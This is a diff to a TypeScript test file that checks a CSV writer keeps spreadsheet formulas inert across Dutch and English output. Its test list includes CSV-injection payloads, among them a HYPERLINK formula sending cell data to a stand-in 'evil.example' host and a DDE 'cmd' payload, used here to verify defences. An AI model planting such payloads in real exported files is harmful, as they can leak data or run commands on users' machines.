@@ -1,9 +1,34 @@
 // Writing CSV: the habits of each language, formulas that stay text, numbers that stay numbers.
+import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { LANGUAGES } from '../../shared/domain/words.ts';
 import { writeCsv } from '../../shared/interop/csv.ts';
+import { formulaFree } from '../../shared/domain/formula-free.ts';
 import { csvLines } from '../../shared/interop/csv-lines.ts';
 import { readRatings } from '../../shared/interop/ratings-csv.ts';
+
+/** What makes a spreadsheet work something out, and the ways to hide it. */
+const SIGNS = ['=1+1', '+31', '-2+3', '@SUM(A1)', '＝1', '＋1', '－1', '＠SUM(A1)'];
+const FORMULAS = [
+  ...SIGNS,
+  ...['\t', '\r', '\n', '\0', ' ', '\uFEFF', '\u200B', ' \t\0'].flatMap((before) =>
+    SIGNS.map((sign) => before + sign),
+  ),
+  '\tx',
+  '\rx',
+  '\0x',
+  '=HYPERLINK("http://evil.example/"&A1,"x")',
+  "=cmd|' /C calc'!A0",
+  '=1+1;=2+2',
+  '=1,"=2"',
+];
+
+/** As Excel, Calc and Sheets read a cell: what they skip goes, then the first sign tells. */
+function isTakenForFormula(cell: string): boolean {
+  const skipped = cell.replaceAll(/[\0\u200B-\u200F\u2060\uFEFF]/gu, '');
+  return /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/u.test(skipped) || cell.startsWith('\0');
+}
 
 const ROWS = [
   ['maat', 'waarde', 'n'],
@@ -24,12 +49,28 @@ describe('writeCsv', () => {
     );
   });
 
-  it.each(['=1+1', '+31', '-2', '@SUM(A1)', '\tx', '\rx', '＝1'])(
-    'lets no text become a formula: %j',
+  it.each(FORMULAS)('lets no text become a formula: %j', (text) => {
+    for (const language of LANGUAGES) {
+      const read = parse(writeCsv([[text, 'a']], { language }), {
+        bom: true,
+        delimiter: language === 'nl' ? ';' : ',',
+      });
+      // What a spreadsheet gets to see: the text, behind an apostrophe, and no cell more than was written.
+      expect(read).toEqual([[`'${text}`, 'a']]);
+      expect(isTakenForFormula(read[0]?.[0] ?? '')).toBe(false);
+    }
+  });
+
+  it.each(['a=b', 'x', "'quoted", '1.000', '', 'vader + moeder', '<b>'])(
+    'leaves other text alone: %j',
     (text) => {
-      expect(writeCsv([[text, 'a']], { language: 'nl' })).toMatch(/^\uFEFF"?'/);
+      expect(parse(writeCsv([[text, 'a']], { language: 'en' }), { bom: true })).toEqual([[text, 'a']]);
     },
   );
+
+  it('control: without care each of them is taken for a formula', () => {
+    expect(FORMULAS.filter((text) => !isTakenForFormula(text))).toEqual([]);
+  });
 
   it.each([-2, -0.5, 1e-7])('leaves a number a number: %d', (value) => {
     expect(writeCsv([[value, 1]], { language: 'en' })).toBe(`\uFEFF${value},1\r\n`);
@@ -42,7 +83,7 @@ describe('writeCsv', () => {
   it('writes text that is read back as it was, whatever is in it', () => {
     const cell = fc
       .string()
-      .filter((text) => text.trim() === text && text !== '' && !/^[=+\-@'＝＋－＠]/.test(text));
+      .filter((text) => text.trim() === text && text !== '' && formulaFree(text) === text);
     fc.assert(
       fc.property(
         fc.constantFrom('nl', 'en'),
